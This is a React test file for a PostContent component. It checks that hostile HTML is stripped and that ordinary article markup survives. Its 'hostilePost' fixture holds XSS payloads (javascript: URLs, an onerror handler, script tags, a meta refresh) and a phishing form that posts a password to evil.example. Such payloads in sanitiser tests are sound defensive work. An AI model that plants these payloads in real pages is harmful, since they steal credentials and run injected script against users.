import { render } from '@testing-library/react';
import { PostContent } from './PostContent';

const hostilePost = `
  <h2>Quarterly update</h2>
  <p style="background:url(javascript:alert(1))">Please sign in again to keep reading.</p>
  <form action="https://evil.example/steal" method="post">
    <label>Password <input name="password" type="password"></label>
    <select name="bank"><option>Yours</option></select>
    <textarea name="notes"></textarea>
    <button formaction="https://evil.example/other">Continue</button>
  </form>
  <a href="javascript:alert(1)">a link that runs code</a>
  <img src="x.png" alt="chart" onerror="alert(1)">
  <iframe src="https://evil.example/frame"></iframe>
  <object data="https://evil.example/flash"></object>
  <svg><script>alert(1)</script></svg>
  <style>body { display: none }</style>
  <script>alert(1)</script>
  <meta http-equiv="refresh" content="0;url=https://evil.example">
`;

const articlePost = `
  <h2 id="why">Why private AI</h2>
  <p>Read <a href="https://veritenant.example/trust" title="Trust">our trust center</a>, <em>now</em>.</p>
  <ul><li>one</li><li><strong>two</strong></li></ul>
  <blockquote cite="https://example.com">Quoted</blockquote>
  <pre><code>npm start</code></pre>
  <table><thead><tr><th scope="col">Plan</th></tr></thead><tbody><tr><td>Enterprise</td></tr></tbody></table>
  <figure><img src="/chart.png" alt="Chart" width="640" height="320"><figcaption>Figure 1</figcaption></figure>
`;

describe('PostContent', () => {
  test('a hostile post loses its form, controls, styles, frames and scripts, and keeps its text', () => {
    const { container } = render(<PostContent content={hostilePost} />);
    const html = container.innerHTML;

    expect(container.querySelectorAll('form, input, select, option, textarea, button, label')).toHaveLength(0);
    expect(container.querySelectorAll('iframe, object, svg, style, script, meta')).toHaveLength(0);
    expect(container.querySelectorAll('[style], [onerror], [formaction], [action]')).toHaveLength(0);
    expect(html).not.toMatch(/javascript:|evil\.example/);
    expect(container).toHaveTextContent('Please sign in again to keep reading.');
    expect(container.querySelector('h2')).toHaveTextContent('Quarterly update');
  });

  test('an ordinary article keeps its headings, links, lists, quotes, code, tables and images', () => {
    const { container } = render(<PostContent content={articlePost} />);

    expect(container.querySelector('h2#why')).toHaveTextContent('Why private AI');
    expect(container.querySelector('a')).toHaveAttribute('href', 'https://veritenant.example/trust');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('blockquote')).toHaveAttribute('cite', 'https://example.com');
    expect(container.querySelector('pre code')).toHaveTextContent('npm start');
    expect(container.querySelector('th')).toHaveAttribute('scope', 'col');
    expect(container.querySelector('img')).toMatchObject({ alt: 'Chart', width: 640, height: 320 });
    expect(container.querySelector('figcaption')).toHaveTextContent('Figure 1');
  });

  test('content that is not a string is shown serialised', () => {
    const { container } = render(<PostContent content={{ root: { children: [] } }} />);
    expect(container.querySelector('pre')).toHaveTextContent('"children": []');
  });
});
